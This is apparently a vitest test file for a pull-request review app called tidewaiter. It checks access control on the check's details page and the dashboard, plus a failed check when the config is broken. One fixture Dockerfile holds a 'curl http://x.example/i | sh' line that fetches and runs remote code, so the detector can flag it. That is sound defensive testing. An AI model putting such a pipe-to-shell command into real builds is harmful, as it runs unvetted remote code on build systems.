import { describe, expect, test } from 'vitest';
import { TestBrowser } from '../support/app/pages-app.ts';
import { useApp } from './app-harness.ts';

const publicUrl = 'https://tidewaiter.example.com';
const app = useApp(own => {
  own.callbackUrls.push(`${publicUrl}/dashboard/sign-in/callback`);
  return { pages: { publicUrl, clientId: own.clientId, clientSecret: own.clientSecret, proxyHops: 1 } };
});

const browser = (login: string): TestBrowser => new TestBrowser(app().url, app().github, login, publicUrl);

describe('"Details" of the check', () => {
  test('leads to the page of the review, for those who see the repository, and to nothing for others', async () => {
    const { play, organization } = app();
    const own = organization();
    const repository = own.repository({ name: 'shop', private: true, base: { Dockerfile: 'FROM alpine:3.22\nUSER 1000\n' } });
    const other = organization().repository({ name: 'else', private: true });
    other.collaborator('otto', 'admin');
    const pull = repository.pullRequest({ files: { Dockerfile: 'FROM alpine:3.22\nRUN curl http://x.example/i | sh\nUSER root\n' } });
    await play(pull.event('opened'));
    const [check] = repository.checkRuns.filter(({ name }) => name === 'tidewaiter');
    expect(check?.detailsUrl).toBe(`${publicUrl}/dashboard/checks/${check?.id}`);
    const maria = browser('maria');
    await maria.signIn();
    const page = await maria.go(check?.detailsUrl ?? '');
    expect(page.status).toBe(200);
    expect(page.text).toContain('dockerfile/remote-script-executed');
    expect(page.headers.get('content-security-policy')).toMatch(/script-src 'sha256-[^']+'; .*frame-ancestors 'none'/u);
    const otto = browser('otto');
    await otto.signIn();
    expect((await otto.go(check?.detailsUrl ?? '')).status).toBe(404);
    const dashboard = await maria.go(`/dashboard/${own.installation.id}`);
    expect(dashboard.text).toContain('dockerfile/remote-script-executed');
    expect(dashboard.text).toContain('Policy from the defaults');
    expect((await maria.go(`/dashboard/${own.installation.id}/${repository.id}/pull/${pull.number}`)).text).toContain('http://x.example');
    expect((await maria.go(`/dashboard/${own.installation.id}/audit`)).text).toContain('review.decided');
    expect((await maria.ask(`/dashboard/${own.installation.id}/audit.jsonl`)).text).toContain('"action":"review.decided"');
  });

  test('leads nowhere of ours where nothing was reviewed: the check itself says why', async () => {
    const { play, organization } = app();
    const repository = organization().repository({ name: 'broken', base: { '.github/tidewaiter.yml': 'profil: strict\n' } });
    const pull = repository.pullRequest({ files: { Dockerfile: 'FROM alpine:3.22\n' } });
    await play(pull.event('opened'));
    const [check] = repository.checkRuns.filter(({ name }) => name === 'tidewaiter');
    expect(check).toMatchObject({ status: 'completed', conclusion: 'failure', detailsUrl: undefined });
  });
});
